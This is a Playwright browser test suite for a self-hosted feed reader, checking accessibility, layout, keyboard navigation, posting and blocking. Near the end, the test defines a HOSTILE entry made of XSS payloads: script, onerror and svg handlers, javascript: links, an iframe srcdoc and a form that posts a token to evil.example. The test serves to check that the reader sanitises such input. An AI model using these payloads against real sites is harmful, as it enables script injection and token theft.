// The reader in a real browser: what a person sees, types and clicks, and what a hostile entry cannot do.
import axe from 'axe-core';
import type { Browser, BrowserContextOptions, Page } from 'playwright-core';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { SafeHtml } from '../../src/model/entry.ts';
import { readerApp } from '../../src/reader/app.ts';
import { dressOf } from '../../src/world/dress.ts';
import { renderer } from '../../src/world/render.ts';
import { serveApp } from '../../src/world/serve-app.ts';
import type { FakeReading } from '../fakes/reading.ts';
import { THEME } from '../pages/sample.ts';
import { TOKEN } from './asking.ts';
import { heard, sampleEdge } from './sample.ts';
import { openBrowser } from '../servers/chromium.ts';

const browsing = suite<{ browser: Browser }>('reader in a browser');

browsing.before(async (open) => {
  open.browser = await openBrowser();
});

browsing.after(({ browser }) => browser.close());

const dress = await dressOf(renderer({ root: THEME, theme: THEME }));

interface Shown extends BrowserContextOptions {
  readonly browser: Browser;
  readonly reading: FakeReading;
  /** What the console may say. */
  readonly may?: RegExp;
}

/** A person opens the reader by the address with the token; a word on the console is a failure. */
async function opened(
  { browser, reading, may, ...options }: Shown,
  look: (page: Page, url: string, reader: Running) => Promise<void>,
): Promise<void> {
  let reader = await running(reading, 0);
  const { url } = reader;
  const context = await browser.newContext(options);
  // Pictures of the world outside: none is there.
  await context.route(/^https?:\/\/(?!localhost)/, (route) =>
    route.fulfill({ contentType: 'image/svg+xml', body: PICTURE }),
  );
  const page = await context.newPage();
  page.setDefaultTimeout(5_000);
  const words: string[] = [];
  page.on('console', (message) => words.push(message.text()));
  page.on('pageerror', (error) => words.push(error.message));
  try {
    await page.goto(`${url}?token=${TOKEN}`);
    await look(page, url, {
      end: () => reader.end(),
      begin: async () => void (reader = await running(reading, Number(new URL(url).port))),
    });
    assert.equal(
      words.filter((word) => !may?.test(word)),
      [],
    );
  } finally {
    await context.close();
    await reader.end();
  }
}

interface Running {
  readonly end: () => Promise<void>;
  /** Again, at the same address. */
  readonly begin: () => Promise<void>;
}

async function running(reading: FakeReading, port: number): Promise<{ url: string; end: () => Promise<void> }> {
  const stop = new AbortController();
  const app = readerApp(reading, { token: TOKEN, hosts: ['localhost'], dress, stop: stop.signal });
  const served = await serveApp(app.fetch, port);
  assert.ok(served.ok);
  const end = async (): Promise<void> => {
    stop.abort();
    await served.value.close();
  };
  return { url: served.value.url, end };
}

const PNG = Buffer.from('\x89PNG\r\n\x1A\n', 'latin1');
const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="3"/>';

const PATHS = [
  '/',
  '/?group=Friends',
  '/mentions',
  '/starred',
  '/search?words=geese',
  '/following',
  '/blocks',
  '/entry/7',
  '/entry/2',
  '/entry/2/block',
  '/entry/6/reply',
  '/compose',
  '/written?file=posts/2026/a.md',
  '/nowhere',
];

/** An reading in which every page has something on it. */
function full(): FakeReading {
  return sampleEdge({
    blocks: [
      { what: 'spam.example', how: 'block' },
      { what: '"buy now"', how: 'mute', until: '2025-12-24' },
    ],
    deploy: async () => ({ problems: [], said: 'Deployed.' }),
  });
}

/** The ids of the entries of a page. */
function ids(page: Page): Promise<string[]> {
  return page.locator('#entries > .entry').evaluateAll((found) => found.map(({ id }) => id));
}

/** The id of the entry that has the focus. */
function focused(page: Page): Promise<string> {
  return page.evaluate<string>("document.activeElement.closest('.entry')?.id ?? ''");
}

for (const colorScheme of ['light', 'dark'] as const) {
  browsing(`axe finds nothing on any page, ${colorScheme}`, async ({ browser }) => {
    await opened({ browser, reading: full(), colorScheme, may: /404/ }, async (page, url) => {
      for (const path of PATHS) {
        await page.goto(new URL(path, url).href);
        // The policy of the page lets in no script of others; what playwright evaluates is not bound by it.
        await page.evaluate(axe.source);
        const { violations } = await page.evaluate(() => (globalThis as unknown as { axe: typeof axe }).axe.run());
        const grave = violations.map(({ id, impact, nodes }) => [id, impact, nodes.map(({ html }) => html)]);
        assert.equal(grave, [], path);
      }
    });
  });
}

browsing('a phone never scrolls sideways, whatever is open', async ({ browser }) => {
  await opened({ browser, reading: full(), viewport: { width: 360, height: 740 }, may: /404/ }, async (page, url) => {
    for (const path of PATHS) {
      await page.goto(new URL(path, url).href);
      for (const details of await page.locator('details > summary:visible').all()) await details.click();
      assert.is(await page.evaluate<number>('document.documentElement.scrollWidth'), 360, path);
    }
    await page.goto(url);
    await page.keyboard.press('?');
    assert.is(await page.evaluate<number>('document.documentElement.scrollWidth'), 360);
  });
});

browsing('dark mode is dark', async ({ browser }) => {
  const red = async (colorScheme: 'light' | 'dark'): Promise<number> => {
    let found = 0;
    await opened({ browser, reading: full(), colorScheme }, async (page) => {
      const colour = await page.evaluate<string>('getComputedStyle(document.documentElement).backgroundColor');
      found = Number(/\d+/.exec(colour)?.[0]);
    });
    return found;
  };
  assert.ok((await red('light')) > 200);
  assert.ok((await red('dark')) < 60);
});

browsing('new entries are told, and shown on a click, and nothing moves before', async ({ browser }) => {
  const reading = sampleEdge();
  await opened({ browser, reading, viewport: { width: 800, height: 300 } }, async (page) => {
    await page.locator('#e2').scrollIntoViewIfNeeded();
    await waitFor(() => reading.listeners() === 1);
    const place = async (): Promise<number | undefined> => (await page.locator('#e2').boundingBox())?.y;
    const before = await place();
    reading.hear(heard(20), heard(21));
    reading.hear(heard(22));
    const button = page.getByRole('button', { name: '3 new' });
    await button.waitFor();
    assert.equal([await ids(page), await place()], [['e8', 'e7', 'e6', 'e2', 'e1'], before]);

    await button.click();
    await page.locator('#e22').waitFor();
    assert.equal(await ids(page), ['e22', 'e21', 'e20', 'e8', 'e7', 'e6', 'e2', 'e1']);
    assert.equal([await focused(page), await page.locator('#news button').count()], ['e22', 0]);
    assert.is(await page.title(), '(7) Timeline · Ann’s flock');
    await page.locator('#e21 .star').click();
    await waitFor(() => reading.entry(21)?.entry.starred === true);
  });
});

browsing('what came while the page was away is told when it is back', async ({ browser }) => {
  const reading = sampleEdge();
  await opened({ browser, reading }, async (page) => {
    await waitFor(() => reading.listeners() === 1);
    const turn = (state: string): Promise<void> =>
      page.evaluate(
        `Object.defineProperty(document, 'visibilityState', { value: '${state}', configurable: true });
        document.dispatchEvent(new Event('visibilitychange'));`,
      );
    await turn('hidden');
    await waitFor(() => reading.listeners() === 0);
    reading.hear(heard(20));
    await turn('visible');
    await page.getByRole('button', { name: '1 new' }).waitFor();
  });
});

browsing('a page whose reader has ended says so, and goes on when there is one again', async ({ browser }) => {
  const reading = sampleEdge();
  await opened({ browser, reading, may: /ERR_/ }, async (page, url, reader) => {
    await waitFor(() => reading.listeners() === 1);
    await reader.end();
    const told = page.getByText('The reader does not answer.');
    await told.waitFor();
    reading.hear(heard(20));
    await reader.begin();
    await page.getByRole('button', { name: '1 new' }).waitFor({ timeout: 15_000 });
    assert.equal([await told.count(), page.url()], [0, url]);
  });
});

browsing('keys go through the entries, and act on the one gone to', async ({ browser }) => {
  const reading = sampleEdge();
  await opened({ browser, reading }, async (page, url) => {
    const keys = page.keyboard;
    const gone: string[] = [];
    for (const key of ['j', 'j', 'j', 'k']) {
      await keys.press(key);
      gone.push(await focused(page));
    }
    assert.equal(gone, ['e8', 'e7', 'e6', 'e7']);

    await keys.press('s');
    await page.locator('#e7 .star[aria-pressed=true]').waitFor();
    await keys.press('m');
    await page.locator('#e7:not(.new)').waitFor();
    assert.equal([reading.entry(7)?.entry.starred, reading.entry(7)?.entry.read], [true, true]);

    await keys.press('o');
    await page.waitForURL(/entry/);
    await page.goBack();
    await waitFor(async () => (await focused(page)) === 'e7');
    await keys.press('j');
    assert.is(await focused(page), 'e6');
    await keys.press('k');

    const places: string[] = [];
    for (const key of ['o', 'r', 'b']) {
      await keys.press(key);
      await page.waitForURL(/entry/);
      places.push(page.url().slice(url.length));
      await page.goto(url);
      await page.locator('#e7').focus();
    }
    for (const pressed of ['gm', 'gs', 'gf', 'gb', 'gt', 'c', '/']) {
      const before = page.url();
      for (const key of pressed) await keys.press(key);
      await page.waitForURL((address) => address.href !== before);
      places.push(page.url().slice(url.length));
      // A field has the focus, and keys are its text.
      await page.evaluate('document.activeElement.blur()');
    }
    assert.equal(places, [
      'entry/7',
      'entry/7/reply',
      'entry/7/block',
      'mentions',
      'starred',
      'following',
      'blocks',
      '',
      'compose',
      'search',
    ]);

    await keys.press('?');
    assert.ok(await page.getByRole('heading', { name: 'Keys' }).isVisible());
    await keys.press('Escape');
    assert.not.ok(await page.getByRole('heading', { name: 'Keys' }).isVisible());
  });
});

browsing('an entry opened far down in a conversation is gone to', async ({ browser }) => {
  const answers = Array.from({ length: 20 }, (_, index) =>
    heard(index + 11, { replyTo: { url: `https://bob.example/${index + 10}` } }),
  );
  await opened({ browser, reading: sampleEdge({ shown: [heard(10), ...answers] }) }, async (page, at) => {
    await page.goto(`${at}entry/30`);
    assert.equal([await focused(page), await page.locator('#e30 .h-card').innerText()], ['e30', 'Bob']);
    await page.keyboard.press('k');
    assert.is(await focused(page), 'e29');
  });
});

browsing('keys are text where one types', async ({ browser }) => {
  await opened({ browser, reading: sampleEdge() }, async (page, url) => {
    await page.goto(`${url}compose`);
    await page.locator('#text').pressSequentially('jokers? /b');
    assert.equal([await page.locator('#text').inputValue(), page.url()], ['jokers? /b', `${url}compose`]);
  });
});

browsing('a reply is counted and shown as it is typed, and written once', async ({ browser }) => {
  const reading = sampleEdge();
  await opened({ browser, reading }, async (page) => {
    await page.locator('#e6 .reply').click();
    await page.locator('#text').fill('Yes, <all> of them 🪿');
    assert.is(await page.locator('#count').innerText(), '20 characters');
    await page.locator('.live-preview #preview').waitFor();
    assert.is(await page.locator('#preview').innerText(), 'Yes, <all> of them 🪿');
    await page.locator('#text').fill('x'.repeat(301));
    assert.match(await page.locator('#count').innerText(), '301 characters, more than micro.blog shows whole');
    await page.locator('#text').fill('Yes, all of them.');
    await page.getByRole('button', { name: 'Write the post' }).dblclick();
    await page.waitForURL(/written/);
    assert.equal(
      reading.written.map(({ text, replyTo }) => [text, replyTo?.url, replyTo?.name, replyTo?.excerpt]),
      [['Yes, all of them.', 'https://bob.example/6', 'Bob', 'I saw them too!']],
    );
  });
});

browsing('a post with a picture is written, and one too large is refused with a sentence', async ({ browser }) => {
  const reading = sampleEdge();
  await opened({ browser, reading, may: /413/ }, async (page, url) => {
    const send = async (size: number): Promise<void> => {
      await page.goto(`${url}compose`);
      await page.locator('#text').fill('Dawn');
      await page.locator('.picture summary').click();
      await page
        .locator('#photo')
        .setInputFiles(
          { name: 'dawn.png', mimeType: 'image/png', buffer: Buffer.concat([PNG], size) },
          { timeout: 30_000 },
        );
      await page.locator('#alt').fill('A red sky');
      await page.getByRole('button', { name: 'Write the post' }).click();
      await page.locator('h1:not(:text("Write"))').or(page.locator('h1:text-is("Written")')).waitFor();
    };
    await send(5_000_000);
    assert.equal(
      reading.written.map(({ photo }) => [photo?.name, photo?.bytes.length, photo?.alt]),
      [['dawn.png', 5_000_000, 'A red sky']],
    );
    await send(12_000_000);
    assert.is(await page.locator('h1').innerText(), 'Too large');
  });
});

browsing('what is blocked at an entry is gone everywhere', async ({ browser }) => {
  const reading = sampleEdge();
  await opened({ browser, reading }, async (page, url) => {
    await page.locator('#e6 .more summary').click();
    await page.locator('#e6 .block').click();
    await page.getByLabel('Everything from bob.example').check();
    await page.getByRole('button', { name: 'Block' }).click();
    await page.getByText('It is gone everywhere').waitFor();
    for (const [path, left] of [
      ['', ['e8', 'e7']],
      ['mentions', []],
      ['search?words=e', ['e7']],
      ['entry/7', ['e7']],
    ] as const) {
      await page.goto(url + path);
      assert.equal(await ids(page), left, path);
    }
    reading.hear(heard(20));
    await page.goto(`${url}blocks`);
    await page.getByRole('button', { name: 'Unblock bob.example' }).click();
    await page.getByText('What it hid is back').waitFor();
    await page.goto(url);
    assert.equal(await ids(page), ['e20', 'e8', 'e7', 'e6', 'e2', 'e1']);
  });
});

browsing('somebody is followed from the address of their page', async ({ browser }) => {
  const reading = sampleEdge();
  await opened({ browser, reading }, async (page, url) => {
    await page.goto(`${url}following`);
    await page.getByLabel('The address of a page').fill('https://eve.example');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Eve', exact: true }).waitFor();
    await page.getByLabel('Group, if any').first().fill('Friends');
    await page.getByRole('button', { name: 'Follow' }).first().click();
    await page.getByText('You follow them now').waitFor();
    assert.equal([reading.following().at(-1)?.name, reading.following().at(-1)?.group], ['Eve', 'Friends']);
  });
});

browsing('all of it works without script', async ({ browser }) => {
  const reading = sampleEdge();
  await opened({ browser, reading, javaScriptEnabled: false }, async (page, url) => {
    await page.locator('#e7 .star').click();
    await page.waitForURL(`${url}#e7`);
    await page.locator('#e7 .more summary').click();
    await page.locator('#e7').getByText('Mark all above as read').click();
    await page.waitForURL(`${url}#e7`);
    assert.equal(
      [8, 7, 6].map((number) => reading.entry(number)?.entry.read),
      [true, true, false],
    );
    assert.ok(reading.entry(7)?.entry.starred);

    await page.goto(`${url}search`);
    await page.getByLabel('Words in entries').fill('shore');
    await page.keyboard.press('Enter');
    await page.waitForURL(/words=shore/);
    assert.equal(await page.locator('.entry').count(), 1);

    await page.locator('.reply').click();
    await page.locator('#text').fill('From here too.');
    const shown = page.context().waitForEvent('page');
    await page.getByRole('button', { name: 'Preview' }).click();
    assert.is(await (await shown).locator('#preview').innerText(), 'From here too.');
    await page.getByRole('button', { name: 'Write the post' }).click();
    await page.waitForURL(/written/);
    assert.equal(
      reading.written.map(({ text, replyTo }) => [text, replyTo?.url]),
      [['From here too.', 'https://carol.example/7']],
    );
  });
});

// What the inbox would hold, had nothing cleaned it: the reader is the last door.
const HOSTILE = `
<script>window.harmed = 'script'</script><script src="https://evil.example/x.js"></script>
<img src="https://evil.example/none" onerror="window.harmed = 'onerror'" onload="window.harmed = 'onload'">
<a id="click" href="javascript:window.harmed='href'">click</a> <a href="data:text/html,x">data</a>
<div style="position:fixed;inset:0;z-index:9999;background:red" id="main" class="skip">over</div>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
<form id="act" action="https://evil.example/" method="post"><input name="token" autofocus><button form="act" name="all" formaction="https://evil.example/">send</button></form>
<iframe src="https://evil.example/" srcdoc="<script>parent.harmed = 'frame'</script>"></iframe>
<object data="https://evil.example/"></object><embed src="https://evil.example/">
<svg onload="window.harmed = 'svg'"><animate onbegin="window.harmed = 'animate'" attributeName="x"/></svg>
<math><mtext><img src="x" onerror="window.harmed = 'math'"></mtext></math>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<video src="x" onerror="window.harmed = 'video'"></video><audio autoplay src="https://evil.example/a.mp3"></audio>
<img src="https://evil.example/pixel.gif" width="1" height="1"></div></article></main><h1>outside</h1>
<p>${'wide'.repeat(400)}</p><pre>${'wide '.repeat(400)}</pre><table><tr><td>${'wide'.repeat(200)}</td></tr></table>
<img src="https://evil.example/wide.png" width="9000" height="10" alt="wide">\u202Eevil\u2066`;

browsing('a hostile entry runs nothing, asks nothing, and changes nothing outside its box', async ({ browser }) => {
  const reading = sampleEdge({
    shown: [
      heard(2),
      heard(1, { html: HOSTILE as SafeHtml, author: { name: '\u202Ennob\u202C\u2067Ann', uri: 'javascript:x' } }),
    ],
  });
  await opened({ browser, reading, viewport: { width: 360, height: 740 } }, async (page, url) => {
    for (const path of ['', 'entry/1']) {
      const asked: string[] = [];
      page.on('request', (request) => asked.push(request.url()));
      await page.goto(url + path);
      await page.getByText('over', { exact: true }).waitFor();
      await page.locator('#e1 a', { hasText: /^click$/ }).click();
      await page.evaluate('scrollTo(0, document.body.scrollHeight)');
      assert.is(await page.evaluate('window.harmed'), undefined, path);
      assert.is(page.url(), url + path);
      const abroad = asked.filter((address) => !address.startsWith(url));
      assert.equal(new Set(abroad.filter((address) => !/none$|wide\.png$/.test(address))), new Set(), path);
      // The frame, and the other entry, are where and what they were.
      assert.equal(
        await page.evaluate(`[document.querySelectorAll('main').length, document.querySelector('main').parentNode.tagName,
          document.forms.length, document.querySelectorAll('script').length, document.querySelectorAll('h1').length,
          document.documentElement.scrollWidth, getComputedStyle(document.body).display]`),
        [1, 'BODY', 2, 1, 1, 360, 'flex'],
        path,
      );
      // What is wider is cut at the edge of the entry, and what would lie over the page is a line in it.
      assert.is(
        await page.locator('#e1 .e-content').evaluate((element) => getComputedStyle(element).overflow),
        'hidden',
      );
      const { width, height } = (await page.getByText('over', { exact: true }).boundingBox()) ?? {};
      assert.ok((width ?? 0) <= 360 && (height ?? 0) < 100);
    }
  });
});

/** Waits until something is so. */
async function waitFor(isSo: () => boolean | Promise<boolean>): Promise<void> {
  for (let turns = 0; !(await isSo()); turns++) {
    if (turns > 500) throw new Error('It did not come to be.');
    await new Promise((soon) => setTimeout(soon, 10));
  }
}

browsing.run();
